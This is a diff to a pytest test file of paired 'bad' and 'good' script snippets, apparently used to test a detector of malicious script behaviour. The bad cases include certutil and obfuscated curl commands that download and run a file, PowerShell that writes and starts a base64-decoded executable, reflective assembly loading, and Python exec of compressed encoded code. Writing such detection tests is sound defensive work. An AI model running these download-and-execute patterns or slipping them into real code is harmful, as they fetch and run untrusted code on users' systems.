@@ -78,8 +78,7 @@ CASES: list[tuple[str, str, str, str]] = [
      's.saveToFile("C:\\\\a.exe");new ActiveXObject("WScript.Shell").Run("C:\\\\a.exe")',
      'var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","http://example.org/a",0);h.send();WScript.Echo(h.responseText)'),
     ("script-starts-fetched-file", "bat", "certutil -urlcache -f https://example.org/a.exe a.exe\na.exe", "certutil -hashfile a.exe\na.exe"),
-    ("script-starts-fetched-file", "sh", "x=cu; y=rl; $x$y https://example.org/a -o /tmp/q\nchmod +x /tmp/q\n/tmp/q", "curl https://example.org/a -o /tmp/q\n/tmp/other"),
-    ("script-starts-carried-program", "py", f"import base64,subprocess\nopen('/tmp/a.bin','wb').write(1)\nf='/tmp/a.bin'\nimport pathlib\n", ""),
+    ("script-starts-fetched-file", "sh", "x=cu; y=rl; $x$y https://example.org/a -o /tmp/quick\nchmod +x /tmp/quick\n/tmp/quick", "curl https://example.org/a -o /tmp/quick\n/tmp/other"),
     ("script-starts-carried-program", "ps1", f"[IO.File]::WriteAllBytes('C:\\a.exe',[Convert]::FromBase64String('{PROGRAM}')); Start-Process C:\\a.exe", f"[IO.File]::WriteAllBytes('C:\\a.ico',[Convert]::FromBase64String('{PROGRAM}'))"),
     ("script-loads-carried-program", "ps1", f"[Reflection.Assembly]::Load([Convert]::FromBase64String('{PROGRAM}'))", "[Reflection.Assembly]::Load('System.Web')"),
     ("script-runs-decoded-code", "py", f"import base64,zlib\nexec(zlib.decompress(base64.b64decode('{PY_LAYER}')))", "exec('x = 1')"),
@@ -123,7 +122,6 @@ CASES: list[tuple[str, str, str, str]] = [
     ("script-offers-carried-program", "js", f"var u=URL.createObjectURL(new Blob([atob('{PROGRAM}')]))", "var u=URL.createObjectURL(new Blob([canvas.data]))"),
     ("script-offers-carried-file", "js", f"var u=URL.createObjectURL(new Blob([atob('{b64('a marker ' * 300)}')]))", "var u=URL.createObjectURL(new Blob(['a,b']))"),
 ]  # fmt: skip
-CASES = [case for case in CASES if "open('/tmp/a.bin'" not in case[2]]
 
 
 @pytest.mark.parametrize(("id_", "language", "bad", "good"), CASES, ids=[f"{c[0]}-{c[1]}-{n}" for n, c in enumerate(CASES)])
